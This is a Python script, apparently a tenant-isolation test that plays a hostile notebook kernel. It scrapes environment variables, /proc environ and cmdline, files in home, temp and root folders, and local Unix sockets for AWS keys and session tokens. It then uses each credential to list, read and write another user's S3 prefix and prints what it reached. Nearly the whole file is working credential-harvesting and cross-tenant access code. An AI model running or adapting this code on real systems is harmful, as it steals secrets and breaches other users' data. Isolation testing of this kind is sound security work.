"""What a hostile kernel does: looks for credentials everywhere, and tries each on another user.

Runs in the kernel as it stands here, with BUCKET and OTHER put in; prints what it has found.
"""

# ruff: noqa: BLE001, S110, T201 - it goes on whatever happens, and its output is its answer

from __future__ import annotations

import json
import os
import re
import socket
from pathlib import Path
from typing import Any

import boto3
from botocore.config import Config

texts: set[str] = {"\n".join(f"{name}={text}" for name, text in os.environ.items())}
environments = 0
for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            texts.add(
                (process / name).read_bytes().replace(b"\0", b"\n").decode("utf-8", "replace")
            )
            environments += name == "environ"
        except OSError:
            pass
SKIPPED = {"node_modules", ".git", ".venv", "site-packages", "__pycache__"}
MOST = 3000
"""Files of one place: a machine's temporary folder may hold a million."""

for top in ("/tmp", "/home", "/root", "/run", "/var/tmp", str(Path.home())):  # noqa: S108
    for folder, _, files in os.walk(top):
        if folder.count("/") > 7:
            continue
        for file in files:
            path = Path(folder, file)
            try:
                if path.is_file() and path.stat().st_size < 1_000_000:
                    texts.add(path.read_bytes().decode("utf-8", "replace"))
            except OSError:
                pass
tried = reachable = 0
for line in Path("/proc/net/unix").read_text().splitlines():
    name = line.split()[-1]
    if name.startswith("/"):
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.settimeout(1)
                one.connect(name)
                one.sendall(b'{"op": "status", "id": "1"}\n')
                texts.add(one.recv(65536).decode("utf-8", "replace"))
                reachable += 1
        except OSError:
            pass

pairs: set[tuple[str, str, str | None]] = set()
KEY = r"(?:AWS_ACCESS_KEY_ID|aws_access_key_id|AccessKeyId|access_key|accessKey)"
SECRET = r"(?:AWS_SECRET_ACCESS_KEY|aws_secret_access_key|SecretAccessKey|secret_key|secretKey)"
TOKEN = r"(?:AWS_SESSION_TOKEN|aws_session_token|Token|SessionToken)"
for text in texts:
    value = r"[\"']?\s*[=:]\s*[\"']?([^\s\"',]+)"
    keys, hidden = re.findall(KEY + value, text), re.findall(SECRET + value, text)
    sessions = [None, *re.findall(TOKEN + value, text)]
    pairs |= {(k, h, s) for k in keys[:20] for h in hidden[:20] for s in sessions[:5]}

reached: list[str] = []


def attack(client: Any, whose: str) -> None:
    """List, read and write what is the other's."""
    for area in ("data", "notebooks"):
        prefix = f"org/{area}/OTHER/"
        asked: dict[str, dict[str, Any]] = {
            "list_objects_v2": {"Prefix": prefix},
            "get_object": {"Key": f"{prefix}secret.txt"},
            "put_object": {"Key": f"{prefix}x", "Body": b""},
        }
        for operation, more in asked.items():
            try:
                getattr(client, operation)(Bucket="BUCKET", **more)
                reached.append(f"{whose}: {operation} in {prefix}")
            except Exception:
                pass


quick = Config(retries={"total_max_attempts": 1}, connect_timeout=3, read_timeout=5)
own: Any = boto3.client("s3", config=quick)
own.list_objects_v2(Bucket="BUCKET", Prefix=os.environ["USER_S3_PATH"].split("/", 3)[3])
attack(own, "the kernel's own session")
for key, hidden_key, session in pairs:
    made: Any = boto3.client
    attack(
        made(
            "s3",
            aws_access_key_id=key,
            aws_secret_access_key=hidden_key,
            aws_session_token=session,
            config=quick,
        ),
        key,
    )
print(
    json.dumps(
        {
            "uid": os.getuid(),
            "environments": environments,
            "credentials": len(pairs) + 1,
            "sockets": reachable,
            "reached": reached,
        }
    )
)
